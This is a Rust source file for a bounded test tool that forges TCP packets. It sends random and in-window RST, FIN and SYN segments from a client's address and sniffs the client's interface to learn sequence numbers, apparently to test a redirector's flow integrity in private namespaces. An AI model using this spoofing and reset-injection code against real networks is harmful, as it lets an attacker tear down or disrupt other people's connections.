//! `tcp-spoof`: a bounded blind attacker on known connections, for the flow-integrity tests.
//!
//! It plays a host of the client's network that knows each target connection's 4-tuple
//! but not its sequence numbers, and sends each target one kind of attack from the
//! client's own address and port (a raw IP socket; correct IP and TCP checksums):
//!
//! - `rst-random`: 20 RSTs with random sequence numbers;
//! - `rst-in-window`: RST and RST|ACK at the client's next sequence number + 1 and + 1000,
//!   inside the server's receive window but not the exact number (RFC 5961: the endpoint
//!   answers with a challenge ACK and keeps the connection);
//! - `fin-random`: 5 FIN|ACKs with random sequence and acknowledgement numbers;
//! - `syn-random`: one SYN with a random sequence number.
//!
//! `rst-in-window` needs the next sequence number, which an attacker on the client's
//! segment can see go by: the tool learns it from the client's own packets on `--iface`
//! (an AF_PACKET socket). It then prints `sniffing on IFACE`, and learns until a line (or
//! end of input) arrives on stdin: meanwhile the caller makes each such connection send
//! something, e.g. one WebSocket message, and waits for its answer. It prints
//! `learned CLIENT -> SERVER next seq N` for each, and sends. Without such targets it
//! sends at once. At the end it prints `sent KIND: P packets to C connections` for each
//! kind and `done: P packets`.
//!
//! Bounded: at most [`MAX_TARGETS`] targets, a fixed number of packets each, and
//! `--seconds` for the whole run, learning included; it exits 1 without sending anything
//! if the stdin line does not come in time or a target's packets were never seen. Every
//! address must be private (10/8, 172.16/12, 192.168/16, fc00::/7): the tool is meant for
//! the tests' own namespaces.

use std::collections::HashMap;
use std::ffi::CString;
use std::io;
use std::mem::size_of;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::process::ExitCode;
use std::str::FromStr;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use clap::Parser;
use redirector_tests::packets::{flags, Frame};
use redirector_tests::raw::{is_private, RawSocket, Rng};

/// Most targets one run attacks.
const MAX_TARGETS: usize = 4096;
/// RSTs of a `rst-random` attack.
const RANDOM_RSTS: usize = 20;
/// FIN|ACKs of a `fin-random` attack.
const RANDOM_FINS: usize = 5;
/// Offsets from the next sequence number of the `rst-in-window` RSTs: in the window, not
/// exact.
const IN_WINDOW_OFFSETS: [u32; 2] = [1, 1000];
/// How long one read of the packet socket waits before the stop line is looked at again.
const SNIFF_POLL: Duration = Duration::from_millis(100);
/// Largest packet read while learning (headers are all that is needed).
const SNIFF_BUFFER: usize = 65_536;

/// Sends blind RST, FIN and SYN attacks to known connections, bounded in count and time.
///
/// Example: tcp-spoof --iface veth-c --target rst-in-window,10.77.1.1:20001,10.77.1.2:80
#[derive(Debug, Parser)]
struct Args {
    /// A connection and its attack, KIND,CLIENT,SERVER (repeatable): KIND is rst-random,
    /// rst-in-window, fin-random or syn-random; CLIENT and SERVER are ADDR:PORT
    /// ([ADDR]:PORT for IPv6) as the client sees them.
    #[arg(long = "target", value_name = "KIND,CLIENT,SERVER", required = true)]
    targets: Vec<Target>,
    /// Interface of the client's network to learn sequence numbers on (rst-in-window).
    #[arg(long, value_name = "IFACE")]
    iface: Option<String>,
    /// Limit on the whole run, learning included, in seconds.
    #[arg(long, default_value_t = 30.0)]
    seconds: f64,
}

/// What one connection is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
enum Attack {
    RstRandom,
    RstInWindow,
    FinRandom,
    SynRandom,
}

impl Attack {
    const ALL: [Attack; 4] = [
        Attack::RstRandom,
        Attack::RstInWindow,
        Attack::FinRandom,
        Attack::SynRandom,
    ];

    fn name(self) -> &'static str {
        match self {
            Attack::RstRandom => "rst-random",
            Attack::RstInWindow => "rst-in-window",
            Attack::FinRandom => "fin-random",
            Attack::SynRandom => "syn-random",
        }
    }
}

impl FromStr for Attack {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        Attack::ALL
            .into_iter()
            .find(|a| a.name() == text)
            .ok_or_else(|| format!("unknown attack `{text}`"))
    }
}

/// One connection (as the client sees it) and its attack.
#[derive(Clone, Copy, Debug)]
struct Target {
    attack: Attack,
    client: SocketAddr,
    server: SocketAddr,
}

impl FromStr for Target {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let mut parts = text.split(',');
        let (Some(attack), Some(client), Some(server), None) =
            (parts.next(), parts.next(), parts.next(), parts.next())
        else {
            return Err(format!("`{text}` is not KIND,CLIENT,SERVER"));
        };
        let addr = |s: &str| -> Result<SocketAddr, String> {
            s.parse().map_err(|e| format!("`{s}`: {e}"))
        };
        let target = Target {
            attack: attack.parse()?,
            client: addr(client)?,
            server: addr(server)?,
        };
        if target.client.is_ipv4() != target.server.is_ipv4() {
            return Err(format!("`{text}`: mixed address families"));
        }
        for ip in [target.client.ip(), target.server.ip()] {
            if !is_private(ip) {
                return Err(format!("{ip} is not a private address"));
            }
        }
        Ok(target)
    }
}

/// The packets of `target`'s attack; `next_seq` is the client's next sequence number,
/// learned for `rst-in-window`.
fn attack_packets(target: &Target, next_seq: Option<u32>, rng: &mut Rng) -> Vec<Vec<u8>> {
    let (client, server) = (target.client, target.server);
    let base = Frame::tcp(
        &client.ip().to_string(),
        &server.ip().to_string(),
        client.port(),
        server.port(),
        0,
    );
    let segment = |flags: u8, seq: u32, ack: u32| {
        Frame {
            flags,
            ..base.clone()
        }
        .with_seq_ack(seq, ack)
        .build_ip()
    };
    match target.attack {
        Attack::RstRandom => (0..RANDOM_RSTS)
            .map(|_| segment(flags::RST, rng.next_u32(), 0))
            .collect(),
        Attack::RstInWindow => {
            let next = next_seq.expect("learned before sending");
            IN_WINDOW_OFFSETS
                .iter()
                .flat_map(|offset| {
                    let seq = next.wrapping_add(*offset);
                    [
                        segment(flags::RST, seq, 0),
                        segment(flags::RST | flags::ACK, seq, rng.next_u32()),
                    ]
                })
                .collect()
        }
        Attack::FinRandom => (0..RANDOM_FINS)
            .map(|_| segment(flags::FIN | flags::ACK, rng.next_u32(), rng.next_u32()))
            .collect(),
        Attack::SynRandom => vec![segment(flags::SYN, rng.next_u32(), 0)],
    }
}

/// A packet socket on one interface, seeing every packet it sends and receives from the
/// network header on (`SOCK_DGRAM`).
struct Sniffer {
    fd: OwnedFd,
}

impl Sniffer {
    fn open(iface: &str) -> io::Result<Self> {
        let name =
            CString::new(iface).map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e))?;
        // SAFETY: `name` is a valid NUL-terminated string for the call.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
        if index == 0 {
            return Err(io::Error::last_os_error());
        }
        let all = (libc::ETH_P_ALL as u16).to_be();
        // SAFETY: plain socket(2) call; the result is checked before use.
        let raw = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM, i32::from(all)) };
        if raw < 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: `raw` is a fresh descriptor that nothing else owns.
        let fd = unsafe { OwnedFd::from_raw_fd(raw) };
        // SAFETY: all-zero is a valid sockaddr_ll.
        let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        addr.sll_family = libc::AF_PACKET as u16;
        addr.sll_protocol = all;
        addr.sll_ifindex = index as i32;
        // SAFETY: `addr` is a valid sockaddr_ll of the length passed.
        let rc = unsafe {
            libc::bind(
                fd.as_raw_fd(),
                (&addr as *const libc::sockaddr_ll).cast(),
                size_of::<libc::sockaddr_ll>() as libc::socklen_t,
            )
        };
        if rc < 0 {
            return Err(io::Error::last_os_error());
        }
        let timeout = libc::timeval {
            tv_sec: 0,
            tv_usec: SNIFF_POLL.as_micros() as libc::suseconds_t,
        };
        // SAFETY: `timeout` is a valid timeval of the length passed.
        let rc = unsafe {
            libc::setsockopt(
                fd.as_raw_fd(),
                libc::SOL_SOCKET,
                libc::SO_RCVTIMEO,
                (&timeout as *const libc::timeval).cast(),
                size_of::<libc::timeval>() as libc::socklen_t,
            )
        };
        if rc < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(Self { fd })
    }

    /// Reads one packet into `buf`: its length, or `None` if none came within
    /// [`SNIFF_POLL`] (or at once, with `wait` false).
    fn recv(&self, buf: &mut [u8], wait: bool) -> io::Result<Option<usize>> {
        let flags = if wait { 0 } else { libc::MSG_DONTWAIT };
        // SAFETY: the buffer is valid for its length.
        let n = unsafe {
            libc::recv(
                self.fd.as_raw_fd(),
                buf.as_mut_ptr().cast(),
                buf.len(),
                flags,
            )
        };
        if n >= 0 {
            return Ok(Some(n as usize));
        }
        let err = io::Error::last_os_error();
        match err.kind() {
            io::ErrorKind::WouldBlock | io::ErrorKind::Interrupted => Ok(None),
            _ => Err(err),
        }
    }
}

/// A TCP segment seen on the wire: its source, its destination, and the sequence number
/// that follows it (sequence + payload length, + 1 for SYN and for FIN). Lengths come from
/// the headers, so only the headers need to have been captured.
fn parse_segment(packet: &[u8]) -> Option<(SocketAddr, SocketAddr, u32)> {
    let (src, dst, tcp, l4_len): (IpAddr, IpAddr, &[u8], usize) = match packet.first()? >> 4 {
        4 => {
            let ihl = usize::from(packet[0] & 0x0f) * 4;
            let fragment = u16::from_be_bytes([*packet.get(6)?, *packet.get(7)?]) & 0x1fff;
            if *packet.get(9)? != libc::IPPROTO_TCP as u8 || fragment != 0 || ihl < 20 {
                return None;
            }
            let total = usize::from(u16::from_be_bytes([packet[2], packet[3]]));
            let src: [u8; 4] = packet.get(12..16)?.try_into().ok()?;
            let dst: [u8; 4] = packet.get(16..20)?.try_into().ok()?;
            (
                src.into(),
                dst.into(),
                packet.get(ihl..)?,
                total.checked_sub(ihl)?,
            )
        }
        6 => {
            // Linux TCP sends no extension headers.
            if *packet.get(6)? != libc::IPPROTO_TCP as u8 {
                return None;
            }
            let payload = usize::from(u16::from_be_bytes([*packet.get(4)?, packet[5]]));
            let src: [u8; 16] = packet.get(8..24)?.try_into().ok()?;
            let dst: [u8; 16] = packet.get(24..40)?.try_into().ok()?;
            (src.into(), dst.into(), packet.get(40..)?, payload)
        }
        _ => return None,
    };
    let header = tcp.get(..20)?;
    let sport = u16::from_be_bytes([header[0], header[1]]);
    let dport = u16::from_be_bytes([header[2], header[3]]);
    let seq = u32::from_be_bytes([header[4], header[5], header[6], header[7]]);
    let data_offset = usize::from(header[12] >> 4) * 4;
    let tcp_flags = header[13];
    let payload = l4_len.checked_sub(data_offset)?;
    let syn_fin = u32::from(tcp_flags & flags::SYN != 0) + u32::from(tcp_flags & flags::FIN != 0);
    let next = seq.wrapping_add(payload as u32).wrapping_add(syn_fin);
    Some((
        SocketAddr::new(src, sport),
        SocketAddr::new(dst, dport),
        next,
    ))
}

/// Whether sequence number `a` is after `b` (serial arithmetic, RFC 1982).
fn seq_after(a: u32, b: u32) -> bool {
    (a.wrapping_sub(b) as i32) > 0
}

/// Learns the next sequence number of every connection in `wanted` from the client's
/// packets on `iface`, until a line arrives on stdin; fails at `deadline`.
fn learn(
    iface: &str,
    wanted: &[(SocketAddr, SocketAddr)],
    deadline: Instant,
) -> Result<HashMap<(SocketAddr, SocketAddr), u32>, String> {
    let sniffer = Sniffer::open(iface).map_err(|e| format!("packet socket on {iface}: {e}"))?;
    let (stop_tx, stop) = mpsc::channel();
    std::thread::spawn(move || {
        let mut line = String::new();
        let _ = io::stdin().read_line(&mut line);
        let _ = stop_tx.send(());
    });
    println!("sniffing on {iface}");
    let mut learned = HashMap::new();
    let mut buf = vec![0u8; SNIFF_BUFFER];
    let mut note = |packet: &[u8]| {
        let Some((src, dst, next)) = parse_segment(packet) else {
            return;
        };
        if wanted.contains(&(src, dst)) {
            let seq = learned.entry((src, dst)).or_insert(next);
            if seq_after(next, *seq) {
                *seq = next;
            }
        }
    };
    loop {
        if !matches!(stop.try_recv(), Err(mpsc::TryRecvError::Empty)) {
            break;
        }
        if Instant::now() >= deadline {
            return Err("no line on stdin before the time limit (--seconds)".into());
        }
        let read = sniffer
            .recv(&mut buf, true)
            .map_err(|e| format!("recv: {e}"))?;
        if let Some(n) = read {
            note(&buf[..n]);
        }
    }
    // What was captured before the stop line is still queued: read it all.
    while let Some(n) = sniffer
        .recv(&mut buf, false)
        .map_err(|e| format!("recv: {e}"))?
    {
        note(&buf[..n]);
    }
    let missing: Vec<String> = wanted
        .iter()
        .filter(|t| !learned.contains_key(t))
        .map(|(c, s)| format!("{c} -> {s}"))
        .collect();
    if !missing.is_empty() {
        return Err(format!(
            "no packet of {} seen on {iface}: {}",
            missing.len(),
            missing.join(", ")
        ));
    }
    Ok(learned)
}

fn main() -> ExitCode {
    let args = Args::parse();
    match run(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(err) => {
            eprintln!("error: {err}");
            ExitCode::FAILURE
        }
    }
}

fn run(args: &Args) -> Result<(), String> {
    if args.targets.len() > MAX_TARGETS {
        return Err(format!("at most {MAX_TARGETS} targets"));
    }
    if !(args.seconds > 0.0 && args.seconds <= 600.0) {
        return Err("--seconds must be in (0, 600]".into());
    }
    let start = Instant::now();
    let deadline = start + Duration::from_secs_f64(args.seconds);
    let wanted: Vec<(SocketAddr, SocketAddr)> = args
        .targets
        .iter()
        .filter(|t| t.attack == Attack::RstInWindow)
        .map(|t| (t.client, t.server))
        .collect();
    let learned = if wanted.is_empty() {
        HashMap::new()
    } else {
        let iface = args
            .iface
            .as_deref()
            .ok_or("rst-in-window needs --iface to learn sequence numbers on")?;
        learn(iface, &wanted, deadline)?
    };
    for ((client, server), next) in &learned {
        println!("learned {client} -> {server} next seq {next}");
    }

    let mut sockets: HashMap<IpAddr, RawSocket> = HashMap::new();
    let mut rng = Rng::seeded();
    let mut sent: HashMap<Attack, (usize, usize)> = HashMap::new();
    for target in &args.targets {
        let socket = match sockets.entry(target.server.ip()) {
            std::collections::hash_map::Entry::Occupied(e) => e.into_mut(),
            std::collections::hash_map::Entry::Vacant(e) => e.insert(
                RawSocket::open(target.server.ip()).map_err(|e| format!("raw socket: {e}"))?,
            ),
        };
        let next = learned.get(&(target.client, target.server)).copied();
        let packets = attack_packets(target, next, &mut rng);
        for packet in &packets {
            socket
                .send(packet)
                .map_err(|e| format!("sendto {}: {e}", target.server))?;
        }
        let count = sent.entry(target.attack).or_default();
        count.0 += packets.len();
        count.1 += 1;
    }
    let mut total = 0;
    for attack in Attack::ALL {
        if let Some((packets, connections)) = sent.get(&attack) {
            println!(
                "sent {}: {packets} packets to {connections} connections",
                attack.name()
            );
            total += packets;
        }
    }
    println!(
        "done: {total} packets in {:.2} s",
        start.elapsed().as_secs_f64()
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use redirector_common::csum::{fold, sum_be};

    fn target(text: &str) -> Target {
        text.parse().unwrap()
    }

    #[test]
    fn targets_parse_and_public_addresses_are_refused() {
        let t = target("rst-in-window,[fd00:77:1::1]:20001,[fd00:77:1::2]:443");
        assert_eq!(t.attack, Attack::RstInWindow);
        assert_eq!(t.server.port(), 443);
        assert!("rst-random,8.8.8.8:1,10.0.0.1:80"
            .parse::<Target>()
            .is_err());
        assert!("rst-random,10.0.0.2:1,[fd00::1]:80"
            .parse::<Target>()
            .is_err());
        assert!("reset,10.0.0.2:1,10.0.0.1:80".parse::<Target>().is_err());
        assert!("rst-random,10.0.0.2:1".parse::<Target>().is_err());
    }

    #[test]
    fn attacks_have_their_counts_flags_and_checksums() {
        let mut rng = Rng::seeded();
        for (text, count) in [
            ("rst-random,10.77.1.1:20001,10.77.1.2:80", RANDOM_RSTS),
            ("rst-in-window,10.77.1.1:20001,10.77.1.2:80", 4),
            (
                "fin-random,[fd00:77:1::1]:20001,[fd00:77:1::2]:80",
                RANDOM_FINS,
            ),
            ("syn-random,10.77.1.1:20001,10.77.1.2:443", 1),
        ] {
            let t = target(text);
            let packets = attack_packets(&t, Some(1000), &mut rng);
            assert_eq!(packets.len(), count, "{text}");
            for packet in &packets {
                // Checksums: the IPv4 header's, then the whole segment with its pseudo-header.
                let (header_len, pseudo) = if t.client.is_ipv4() {
                    assert_eq!(fold(sum_be(0, &packet[..20])), 0xffff);
                    let len = (packet.len() - 20) as u16;
                    let sum = sum_be(sum_be(0, &packet[12..20]), &[0, 6]);
                    (20, sum_be(sum, &len.to_be_bytes()))
                } else {
                    let len = (packet.len() - 40) as u32;
                    let sum = sum_be(0, &packet[8..40]);
                    (40, sum_be(sum_be(sum, &len.to_be_bytes()), &[0, 0, 0, 6]))
                };
                assert_eq!(
                    fold(sum_be(pseudo, &packet[header_len..])),
                    0xffff,
                    "{text}"
                );
                let (src, dst, _) = parse_segment(packet).unwrap();
                assert_eq!((src, dst), (t.client, t.server));
            }
        }
        let in_window = attack_packets(
            &target("rst-in-window,10.77.1.1:20001,10.77.1.2:80"),
            Some(u32::MAX),
            &mut rng,
        );
        let seqs: Vec<(u32, u8)> = in_window
            .iter()
            .map(|p| (u32::from_be_bytes(p[24..28].try_into().unwrap()), p[33]))
            .collect();
        let (rst, rst_ack) = (flags::RST, flags::RST | flags::ACK);
        assert_eq!(
            seqs,
            vec![(0, rst), (0, rst_ack), (999, rst), (999, rst_ack)]
        );
    }

    #[test]
    fn the_next_sequence_number_counts_payload_syn_and_fin() {
        let mut data = Frame::tcp("10.77.1.1", "10.77.1.2", 20001, 80, flags::ACK);
        data.payload = vec![0; 10];
        let (_, _, next) = parse_segment(&data.with_seq_ack(100, 0).build_ip()).unwrap();
        assert_eq!(next, 110);
        let syn = Frame::tcp("fd00::1", "fd00::2", 20001, 80, flags::SYN).with_seq_ack(u32::MAX, 0);
        assert_eq!(parse_segment(&syn.build_ip()).unwrap().2, 0);
        let fin = Frame::tcp("10.77.1.1", "10.77.1.2", 20001, 80, flags::FIN | flags::ACK);
        assert_eq!(
            parse_segment(&fin.with_seq_ack(5, 0).build_ip()).unwrap().2,
            6
        );
        assert!(seq_after(1, u32::MAX) && !seq_after(u32::MAX, 1));
    }
}
